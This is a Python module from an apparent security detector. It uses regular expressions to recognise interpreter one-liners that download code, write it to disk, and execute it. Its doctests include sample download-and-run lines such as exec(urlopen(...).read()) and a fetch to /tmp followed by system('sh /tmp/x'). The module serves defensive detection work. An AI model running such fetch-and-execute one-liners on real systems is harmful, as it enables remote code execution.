"""One-liners of interpreters that fetch: `python3 -c "..."`, `perl -e`, `php -r`, `ruby -e`, `node -e`."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import re2

from detectors.commands import Command
from detectors.commands.options import SHELLS, interpreter

_LENGTH = 16_384
_NAMES = 8
_FETCHES = (
    r"(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.get|http\.client|LWP::Simple|HTTP::Tiny|URI\.open|open-uri"
    r"|file_get_contents\(\s*['\"]?https?:|Net::HTTP|https?\.get\(|\bfetch\(|\bget\(?\s*['\"]https?:|open\(['\"]https?:)"
)
_RUNS = (
    r"(?:\bexec|\beval|\bcompile|os\.system|\bsystem|\bpopen|check_output|subprocess\.\w+|execSync|\bspawn\w*|passthru)"
)
_FETCH = re2.compile(_FETCHES)
_DIRECT = re2.compile(_RUNS + r"\b\s*[({]?[^;\n]*" + _FETCHES)
_KEPT = re2.compile(r"\b(\w{1,32})\s*=[^=;\n][^;\n]*" + _FETCHES)
_REQUIRED = re2.compile(r"\b(?:include|require)(?:_once)?\s*\(?\s*['\"]https?:")
_URL = re2.compile(r"(?i)(?:https?|ftp)://[^\s'\"()<>|;]+")
_SAVED = re2.compile(
    r"(?:urlretrieve|getstore|download_file|\br|\.retrieve|wget\.download)\s*\(\s*[^,()]+,\s*(?:filename\s*=\s*)?"
    r"['\"]([^'\"]+)['\"]"
    r"|\bopen\(\s*['\"]([^'\"]+)['\"]\s*,\s*['\"]>?[wax]?b?\+?['\"]"
    r"|\bopen\([^,()]+,\s*['\"]>['\"]\s*,\s*['\"]([^'\"]+)['\"]"
    r"|(?:file_put_contents|copy|writeFileSync|File\.write|IO\.binwrite|createWriteStream|Path)\(\s*"
    r"(?:['\"]https?:[^'\"]+['\"]\s*,\s*)?['\"]([^'\"]+)['\"]"
)


def fetching_text(command: Command) -> str:
    """The text of a one-liner that fetches; empty if it is none.

    Examples
    --------
    >>> fetching_text(Command("python3", "python3", ("-c", "import urllib.request as u; u.urlretrieve(a, b)")))[:16]
    '-c import urllib'
    """
    if interpreter(command.name) in SHELLS | {""}:
        return ""
    text = " ".join(command.arguments)[:_LENGTH]
    return text if _FETCH.search(text) or _REQUIRED.search(text) else ""


def source_of(text: str) -> str:
    """The URL in a one-liner; a note where it has none."""
    found = _URL.search(text)
    return found.group(0)[:512] if found else "a URL made in a one-liner"


def saved(text: str) -> Iterator[str]:
    """The files that a one-liner writes.

    >>> list(saved("u.urlretrieve('http://h/t.py', '/srv/t.py')"))
    ['/srv/t.py']
    """
    for found in itertools.islice(_SAVED.finditer(text), _NAMES):
        path = next(filter(None, found.groups()), "")
        if path and "://" not in path:
            yield path


def run_by_name(text: str) -> Iterator[str]:
    """The files that a one-liner both writes and runs.

    >>> list(run_by_name("getstore('http://h/x', '/tmp/x'); system('sh /tmp/x')"))
    ['/tmp/x']
    """
    for name in dict.fromkeys(saved(text)):
        if len(name) <= _LENGTH // 16 and re2.search(_RUNS + r"\b[^;\n]*" + re2.escape(name), text):
            yield name


def runs_what_it_fetches(text: str) -> bool:
    """Whether a one-liner runs what it fetches.

    >>> runs_what_it_fetches("from urllib.request import urlopen; exec(urlopen('http://h').read())")
    True
    >>> runs_what_it_fetches("d=urlopen('http://h').read(); eval(d)"), runs_what_it_fetches("print(urlopen(u).read())")
    (True, False)
    """
    if _DIRECT.search(text) or _REQUIRED.search(text) or "memfd_create" in text:
        return True
    names = sorted({found.group(1) for found in itertools.islice(_KEPT.finditer(text), _NAMES)})
    return any(re2.search(_RUNS + rf"\b\s*[({{]?[^;\n]*\b{name}\b", text) for name in names)
